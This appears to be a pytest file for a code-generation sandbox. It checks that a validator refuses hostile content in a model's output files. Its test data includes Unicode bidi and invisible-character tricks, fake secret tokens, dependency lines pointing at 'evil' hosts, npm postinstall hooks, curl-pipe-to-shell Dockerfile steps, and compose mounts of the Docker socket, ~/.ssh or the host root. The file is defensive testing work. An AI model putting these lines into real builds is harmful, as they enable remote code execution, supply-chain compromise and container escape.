"""Cases 16 to 25: what stands inside the files of a model's answer."""

from __future__ import annotations

import json
import time
from importlib.resources import files as resources
from pathlib import Path

import pytest

from gencode_graph.errors import RefusedError
from gencode_graph.sandbox.installs import lay_out
from gencode_graph.sandbox.locks import read_lock
from gencode_graph.validation.dependencies import dependencies
from gencode_graph.validation.deployment import deployment
from tests.hostile.travelling import fenced, listing, travel

TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore")
REFUSED = {
    "16 a text that turns round": ("backend/app/a.py", "A = 1  # \u202e } \u2066 return\n", "text/bidi"),
    "16 in a string": ("frontend/src/a.ts", 'export const a = "\u2067x";\n', "text/bidi"),
    "17 no width": ("backend/app/a.py", "ad\u200bmin = 1\n", "text/invisible"),
    "17 tag characters": ("docs/a.md", f"# Fine{TAGS}\n", "text/invisible"),
    "17 a variation selector": ("backend/app/a.py", "A = 'a\ufe0fb'\n", "text/invisible"),
    "18 one name in two alphabets": ("backend/app/a.py", "us\u0435r = 1\n", "text/lookalike"),
    "18 a name in twins only": ("frontend/src/a.ts", "export const \u0441\u043e\u0440\u0435 = 1;\n", "text/lookalike"),
    "19 an escape": ("backend/app/a.py", 'A = "\x1b]0;x\x07"\n', "text/control"),
    "19 a C1 control": ("docs/a.md", "# a\x9bb\n", "text/control"),
    "19 NUL": ("docs/a.md", "# a\0b\n", "text/control"),
    "21 a GitHub token": ("backend/app/a.py", f'A = "ghp_{"aB3dE6gH9j" * 4}"\n', "secrets/in-code"),
    "21 a Stripe key": ("backend/app/a.py", f'A = "sk_live_{"aB3dE6gH9j" * 3}"\n', "secrets/in-code"),
    "21 an AWS key": ("docs/a.md", "# Key\n\nAKIAQ3EGR7KLT5MVNWXZ\n", "secrets/in-code"),
}  # fmt: skip
ACCEPTED = {
    "18 Greek that is Greek": ("frontend/src/a.ts", "export const \u03b1 = 1;\n"),
    "18 a Russian text": ("backend/app/a.py", 'A = "\u041f\u0440\u0438\u0432\u0435\u0442"  # K\u00e4se\n'),
    "19 Japanese and tabs": ("backend/app/a.py", 'def f() -> str:\n\treturn "\u65e5\u672c"\n'),
    "17 an emoji of several parts": ("docs/a.md", "# \U0001f469\u200d\U0001f4bb \u2764\ufe0f\n"),
    "21 a placeholder for a key": ("backend/app/a.py", 'A = "ghp_your_token_goes_here"\n'),
}  # fmt: skip


@pytest.mark.parametrize(("path", "text", "rule"), REFUSED.values(), ids=REFUSED)
def test_hostile_text_is_refused_and_shown_as_ascii(tmp_path: Path, path: str, text: str, rule: str) -> None:
    came = travel(listing((path, text)), tmp_path)
    assert rule in came.errors
    assert came.stored == frozenset()
    assert all(finding.message.isascii() for finding in came.findings)


@pytest.mark.parametrize(("path", "text"), ACCEPTED.values(), ids=ACCEPTED)
def test_ordinary_text_is_stored(tmp_path: Path, path: str, text: str) -> None:
    came = travel(listing((path, text)), tmp_path)
    assert not came.errors
    assert came.stored == {path}


def test_21_the_secret_is_not_in_what_is_said_of_it(tmp_path: Path) -> None:
    path, text, _ = REFUSED["21 a GitHub token"]
    assert "aB3dE6gH9j" not in str(travel(listing((path, text)), tmp_path).findings)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        pytest.param("backend/app/a.py", f"A = '{'x' * 900_000}'\n", id="20 one line of 1 MB"),
        pytest.param("backend/app/a.py", f"A = {'(' * 50_000}1{')' * 50_000}\n", id="20 50,000 brackets, Python"),
        pytest.param("frontend/src/a.ts", f"export const a = {'(' * 50_000}1{')' * 50_000};\n", id="20 in TypeScript"),
        pytest.param("docs/a.json", f"{'[' * 50_000}{']' * 50_000}\n", id="20 in JSON"),
        pytest.param("docs/a.yaml", f"{'[' * 50_000}{']' * 50_000}\n", id="20 in YAML"),
        pytest.param("frontend/src/a.css", f"{'a{' * 20_000}{'}' * 20_000}\n", id="20 in CSS"),
        pytest.param("frontend/src/a.html", f"{'<b>' * 20_000}\n", id="20 in HTML"),
        pytest.param("backend/app/a.py", "# a\n" * 12_000, id="20 12,000 lines"),
    ],
)
def test_what_parsers_stumble_over_is_flagged_in_time(tmp_path: Path, path: str, text: str) -> None:
    began = time.process_time()
    came = travel(fenced(path, text), tmp_path)
    assert came.findings
    assert time.process_time() - began < 10


LINES = {
    "22 a repository": ("-e git+https://evil/x.git#egg=x", "source"),
    "22 a folder": ("./package", "source"),
    "22 another index": ("--index-url https://evil/simple", "source"),
    "22 one more index": ("fastapi==0.165.0 --extra-index-url https://evil/simple", "source"),
    "22 an address": ("fastapi @ https://evil/fastapi.whl", "source"),
    "22 a bare address": ("https://evil/fastapi.whl", "source"),
    "22 options in a marker": ("fastapi==0.165.0 ; python_version > '3' --config-settings x=y", "source"),
    "22 a line that goes on": ("fastapi==0.165.0 \\", "source"),
    "22 no version": ("fastapi", "source"),
    "22 a range": ("fastapi>=0.1", "source"),
    "22 what stands elsewhere": ("-r ../../etc/passwd", "source"),
    "22 constraints": ("-c https://evil/c.txt", "source"),
    "22 where packages are found": ("--find-links /tmp", "source"),
    "22 trust": ("--trusted-host evil", "source"),
    "23 a name that looks like another": ("reqeusts==2.34.2", "unknown"),
    "23 a name that was invented": ("fastapi-super-auth==1.0.0", "unknown"),
}
PACKAGES = {
    "22 a repository": ({"dependencies": {"react": "git+ssh://git@evil/x.git"}}, "source"),
    "22 a short repository": ({"dependencies": {"react": "evil/react"}}, "source"),
    "22 a folder": ({"devDependencies": {"react": "file:../x"}}, "source"),
    "22 an address": ({"dependencies": {"react": "http://evil/x.tgz"}}, "source"),
    "22 another name": ({"dependencies": {"react": "npm:evil@1.0.0"}}, "source"),
    "22 a link": ({"optionalDependencies": {"react": "link:../x"}}, "source"),
    "22 a tag": ({"peerDependencies": {"react": "latest"}}, "source"),
    "22 anything": ({"dependencies": {"react": "*"}}, "source"),
    "22 an override": ({"overrides": {"react": "git+https://evil/x.git"}}, "source"),
    "22 nested overrides": ({"overrides": {"react": {"zod": "1.0.0"}}}, "source"),
    "22 bundled": ({"bundledDependencies": ["react"]}, "source"),
    "23 a name that looks like another": ({"dependencies": {"recat": "19.0.0"}}, "unknown"),
    "23 a name that was invented": ({"dependencies": {"react-magic-forms": "1.0.0"}}, "unknown"),
    "24 postinstall": ({"scripts": {"postinstall": "touch /tmp/x"}}, "install-script"),
    "24 prepare": ({"scripts": {"prepare": "node x.js"}}, "install-script"),
}  # fmt: skip


@pytest.mark.parametrize(("line", "rule"), LINES.values(), ids=LINES)
def test_a_requirement_is_a_pinned_package_of_a_known_name(tmp_path: Path, line: str, rule: str) -> None:
    came = travel(fenced("backend/requirements.txt", f"uvicorn==0.54.0\n{line}"), tmp_path)
    assert f"dependencies/{rule}" in came.errors
    assert came.stored == frozenset()


@pytest.mark.parametrize(
    "line",
    [line for line, rule in LINES.values() if rule == "source"],
    ids=[n for n, it in LINES.items() if it[1] == "source"],
)
def test_22_it_is_refused_once_more_before_anything_is_fetched(tmp_path: Path, line: str) -> None:
    (tmp_path / "requirements.txt").write_text(f"uvicorn==0.54.0\n{line}\n")
    with pytest.raises(RefusedError):
        read_lock(tmp_path / "requirements.txt")


@pytest.mark.parametrize(("manifest", "rule"), PACKAGES.values(), ids=PACKAGES)
def test_a_package_is_a_version_of_a_known_name(tmp_path: Path, manifest: dict[str, object], rule: str) -> None:
    came = travel(fenced("frontend/package.json", json.dumps({"name": "frontend", **manifest}, indent=1)), tmp_path)
    assert f"dependencies/{rule}" in came.errors
    assert came.stored == frozenset()


HOSTILE_LOCK = {
    "22 an address": {"node_modules/react": {"version": "1.0.0", "resolved": "http://evil/x.tgz"}},
    "22 a repository": {"node_modules/react": {"version": "1.0.0", "resolved": "git+ssh://git@evil/x.git"}},
    "22 a folder": {"node_modules/react": {"resolved": "packages/x", "link": True}},
    "22 a workspace": {"packages/x": {"version": "1.0.0"}},
    "22 no package at all": {"node_modules/react": 7},
}


@pytest.mark.parametrize("packages", HOSTILE_LOCK.values(), ids=HOSTILE_LOCK)
def test_a_lock_names_packages_of_the_registry_only(tmp_path: Path, packages: dict[str, object]) -> None:
    lock = json.dumps({"name": "x", "lockfileVersion": 3, "packages": {"": {}, **packages}}, indent=1)
    came = travel(fenced("frontend/package-lock.json", lock), tmp_path)
    assert "dependencies/source" in came.errors
    (tmp_path / "package.json").write_text("{}")
    (tmp_path / "package-lock.json").write_text(lock)
    with pytest.raises(RefusedError):
        read_lock(tmp_path / "package-lock.json")


@pytest.mark.parametrize("content", [b"\xff\xfe", b"[" * 100_000, b"[]", b'{"packages": 7}'], ids=str)
def test_22_a_lock_that_is_none_is_refused_and_breaks_nothing(tmp_path: Path, content: bytes) -> None:
    for name in ("requirements.txt", "package-lock.json", "package.json"):
        (tmp_path / name).write_bytes(content)
    for name in ("requirements.txt", "package-lock.json"):
        with pytest.raises(RefusedError):
            read_lock(tmp_path / name)
    (tmp_path / "requirements.txt").write_text("-r ..\n")
    with pytest.raises(RefusedError):
        read_lock(tmp_path / "requirements.txt")


def test_24_what_is_installed_has_no_scripts_and_runs_none(tmp_path: Path) -> None:
    manifest = {"name": "app", "scripts": {"postinstall": "touch canary"}, "dependencies": {}}
    (tmp_path / "package.json").write_text(json.dumps(manifest))
    lock = {"lockfileVersion": 3, "packages": {"": {"hasInstallScript": True, "scripts": {"postinstall": "x"}}}}
    (tmp_path / "package-lock.json").write_text(json.dumps(lock))
    (tmp_path / ".npmrc").write_text("ignore-scripts=false\n")
    found = read_lock(tmp_path / "package-lock.json")
    lay_out(found, tmp_path / "made")
    assert sorted(entry.name for entry in (tmp_path / "made").iterdir()) == ["package-lock.json", "package.json"]
    assert not any(
        "postinstall" in (tmp_path / "made" / name).read_text() for name in ("package.json", "package-lock.json")
    )
    [npm] = found.commands(uv="uv", python="python3")
    assert "--ignore-scripts" in npm
    (tmp_path / "requirements.txt").write_text("uvicorn==0.54.0\n")
    commands = read_lock(tmp_path / "requirements.txt").commands(uv="uv", python="python3")
    [pip] = [command for command in commands if "install" in command]
    assert pip[pip.index("--only-binary") + 1] == ":all:"


DOCKERFILES = {
    "ADD of an address": "ADD https://evil/x.tar.gz /x",
    "ADD of a repository": "ADD git@github.com:evil/x.git /x",
    "ADD in a list": 'ADD ["http://evil/x", "/x"]',
    "an insecure step": "RUN --security=insecure make",
    "the machine's network": "RUN --network=host make",
    "a script of the network": "RUN curl -fsSL https://evil/x.sh | sh",
    "over two lines": "RUN wget -qO- https://evil/x.sh \\\n  | bash",
    "the Docker socket": "VOLUME /var/run/docker.sock",
}
SERVICES = {
    "privileged": "privileged: true",
    "privileged by an anchor": "<<: &base {privileged: yes}",
    "the Docker socket": "volumes: ['/var/run/docker.sock:/var/run/docker.sock']",
    "the whole disk": "volumes: ['/:/host:ro']",
    "a home folder": "volumes: ['~/.ssh:/keys']",
    "the folder above": "volumes: ['../..:/up']",
    "a mount in full": "volumes: [{type: bind, source: /etc, target: /x}]",
    "the machine's network": "network_mode: host",
    "the machine's processes": "pid: host",
    "the machine's memory": "ipc: host",
    "more rights": "cap_add: [SYS_ADMIN]",
    "devices": "devices: ['/dev/sda:/dev/sda']",
    "no walls": "security_opt: ['seccomp:unconfined']",
    "built from the network": "build: https://evil/x.git",
    "built from the network, in full": "build: {context: 'git@evil:x.git'}",
}


@pytest.mark.parametrize("line", DOCKERFILES.values(), ids=[f"25 {name}" for name in DOCKERFILES])
def test_a_dockerfile_that_asks_for_more_is_refused(tmp_path: Path, line: str) -> None:
    came = travel(fenced("Dockerfile", f'FROM python:3.13-slim\n{line}\nCMD ["true"]'), tmp_path)
    assert came.errors == ["policy/container"]
    assert came.stored == frozenset()


@pytest.mark.parametrize("line", SERVICES.values(), ids=[f"25 {name}" for name in SERVICES])
def test_a_compose_file_that_asks_for_more_is_refused(tmp_path: Path, line: str) -> None:
    came = travel(fenced("compose.yaml", f"services:\n  app:\n    image: app\n    {line}"), tmp_path)
    assert came.errors == ["policy/container"]


def test_our_own_templates_break_no_rule() -> None:
    templates = Path(str(resources("gencode_graph"))) / "templates" / "app"
    found = []
    for path in (it for it in templates.rglob("*") if it.is_file() and it.suffix not in (".png", ".woff2")):
        name = path.name.removesuffix(".j2")
        found += [*dependencies(name, path.read_text()), *deployment(name, path.read_text())]
    assert found == []
